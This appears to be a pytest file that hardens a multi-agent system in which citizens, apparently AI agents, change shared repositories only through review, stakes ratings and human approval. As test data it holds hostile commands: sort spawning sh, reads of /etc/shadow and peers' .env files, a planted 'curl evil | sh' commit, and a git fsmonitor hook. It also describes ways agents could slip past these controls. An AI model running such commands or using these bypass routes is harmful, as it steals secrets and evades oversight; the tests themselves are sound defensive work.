"""The shared repositories change only through reviewed paths (issue 28, breaks 3 and 4).

Each test performs an attack a citizen could make on the code before this change and
fails there: a command the stakes rated low that runs code or reads a peer's secrets,
a hook or config planted in the baseline or world repository, a commit straight onto
the baseline's main, a merge without the adoptions it needs. Dev mode: the broker is
a child process under CIV_ROOT/.broker, the same code paths as on a server minus the
Unix users (tests/test_hostile_repos_server.py has those).
"""

from __future__ import annotations

from pathlib import Path

import git
import pytest

from citizen.access import client, steps
from citizen.tools import sandbox
from shared import baseline as base_records
from shared import gitsafe
from shared.consensus import Consensus
from shared.consensus.stakes import classify, command_stakes
from shared.consensus.world import World
from tests import thoughtworld
from tests.test_evolution import APP, commit, evo, reported, run

__all__ = ["evo"]  # the fixture: a baseline with a tiny project, cloned by each citizen


@pytest.mark.parametrize("command", [
    "sort --compress-program=sh notes.md",  # sort runs sh to "compress" its temp files
    "sort --compress-program sh -S 1 notes.md", "sort --comp=sh notes.md",
    "sort -uo notes.md notes.md", "sort -ruo README.md x", "sort --out=README.md x",
    "git log --out=README.md", "tree -ao README.md",
    "cat /etc/experience/opus.env", "cat ../../opus/.env", "head ~/.env",
    "grep -r KEY /home/mira", "cat $HOME/.env", "grep --file=/etc/shadow x",
    "./cat notes.md", "/tmp/x/ls",  # a program by path is not the program it names
])
def test_commands_that_run_code_write_or_read_outside_are_high(command: str) -> None:
    """Break 3: each was low (2/3 agree, no person) on the code before."""
    assert command_stakes(command)[0] == "high", command_stakes(command)
    assert classify([{"tool": "run", "args": {"command": command}}])[0] == "high"


@pytest.mark.parametrize("command", ["sort -n notes.md", "sort -t, -k2 data.csv",
                                     "cat notes/a.md", "git log --oneline -3", "ls -la"])
def test_reading_inside_the_world_stays_low(command: str) -> None:
    assert command_stakes(command)[0] == "low", command_stakes(command)


# ------------------------------------------------------------ the baseline (break 4)

def _verified_change(evo: Path) -> str:
    """opus's change, announced and reported working by mira and aria: verified."""
    commit(git.Repo(evo / "opus" / "code"), {"app.py": APP.replace("'hi'", "'hello'")},
           "warmer greeting")
    cid = str(run("opus", "code_announce", description="warmer", expected_outcome="hello")["id"])
    for peer in ("mira", "aria"):
        reported(peer, cid, "worked")
    return cid


def test_the_broker_refuses_a_merge_without_enough_adoptions(evo: Path) -> None:
    """On the code before, whoever adopted merged into the baseline itself, and any
    citizen could call the merge on a change nobody adopted; now only the broker writes
    the baseline, and it counts the adoption records (their files' owners) first."""
    cid = _verified_change(evo)
    baseline = evo / "shared" / "baseline"
    before = gitsafe.read_head(baseline)
    status, answer = client.request("opus", "POST", "/v1/experience/baseline/merge",
                                    {"change_id": cid})
    assert status == 409 and "adopted by 0 of opus's 2 peers" in answer["error"]["message"]
    assert gitsafe.read_head(baseline) == before
    assert "'hello'" not in (baseline / "app.py").read_text()
    adopted = run("aria", "code_adopt", change_id=cid)  # opus and aria: 2 of 3 hold it
    assert adopted["status"] == "merged" and "'hello'" in (baseline / "app.py").read_text()


def test_a_commit_straight_onto_main_stops_the_next_merge(evo: Path) -> None:
    """A commit put on main past review (on a server no citizen can even write it; in dev
    mode we can) is never built on: the broker refuses to merge over it and says so."""
    cid = _verified_change(evo)
    baseline = git.Repo(evo / "shared" / "baseline")
    stray = commit(baseline, {"app.py": "import os; os.system('curl evil | sh')\n"}, "sneaky")
    run("aria", "code_adopt", change_id=cid)
    adopted = run("mira", "code_adopt", change_id=cid)
    assert adopted["status"] == "verified_good", adopted  # adopted, but not merged
    assert base_records.unreviewed(evo / "shared" / "baseline", evo / "shared", False) \
        == [stray]
    status, answer = client.request("mira", "POST", "/v1/experience/baseline/merge",
                                    {"change_id": cid})
    assert status == 409 and "no review put there" in answer["error"]["message"], answer
    assert stray[:12] in answer["error"]["message"]


# ------------------------------------------------------------ the world (breaks 3, 4)

def _approved(civ: Path, command: str) -> tuple[Consensus, str, dict[str, str]]:
    """A proposal running `command`, approved (by a person too when its stakes say so),
    its execution the broker's (citizen.broker.world) as through the daemons."""
    c = thoughtworld.commons(civ / "shared")
    c.world_request = steps.world
    body = thoughtworld.proposal(tool="run", content=command)
    pid = c.request(thoughtworld.HELLO, "opus", "operator").id
    roles = c.load(pid).roles
    c.propose(pid, "opus", body)
    c.verify(pid, roles["verifier"], thoughtworld.vote())
    c.integrate(pid, roles["integrator"], thoughtworld.vote())
    if c.load(pid).phase == "human":
        c.decide_human(pid, "root", "approve", "looked at it")
    assert c.load(pid).phase == "execute"
    return c, pid, roles


@pytest.mark.skipif(sandbox.problem() != "", reason="bubblewrap cannot run here")
def test_a_planted_fsmonitor_in_the_world_never_runs(civ: Path, tmp_path: Path) -> None:
    """Break 4: on the code before, a citizen wrote the world's .git/config and the next
    approved `git status` (low stakes) ran its fsmonitor as the executor."""
    marker = tmp_path / "fsmonitor-ran"
    World(civ / "shared").repo()
    gitsafe.run(civ / "shared" / "world", "config", "core.fsmonitor", f"touch {marker}; false")
    c, pid, _ = _approved(civ, "git status")
    d = c.execute(pid, "opus", thoughtworld.env())
    assert d.execution is not None and d.execution["success"], d.execution
    assert not marker.exists()


@pytest.mark.skipif(sandbox.problem() != "", reason="bubblewrap cannot run here")
def test_an_approved_run_is_nobody_without_secrets_and_its_output_redacted(civ: Path) -> None:
    """Break 3: on the code before, an approved `run` ran unsandboxed as the executor
    (reading a peer's secrets) and its output went into the shared record unredacted."""
    with (civ / "mira" / ".env").open("a") as fh:
        fh.write("EMAIL_PASS=mira-canary-7f3e91\n")
    c, pid, _ = _approved(civ, "id -u; cat ../../mira/.env; ls /home; "
                               "echo mira-canary-7f3e91 api_key=sk-ant-abcdefghijklmnopqrstu")
    d = c.execute(pid, "opus", thoughtworld.env())
    record = (civ / "shared" / "proposals" / "records" / pid / "execution.json").read_text()
    assert d.execution is not None
    out = d.execution["results"][0]["output"]
    assert out.splitlines()[1] == str(65534), out  # nobody, not the executor
    assert "mira-canary-7f3e91" not in record and "sk-ant-abc" not in record, record
    assert "No such file" in out  # the peer's home is not there at all
    assert "[redacted]" in out
    # Asked again, the broker runs nothing: the execution is recorded, the step moved on.
    status, _ = client.request("opus", "POST", "/v1/experience/world/execute",
                                   {"proposal": pid})
    assert status == 409
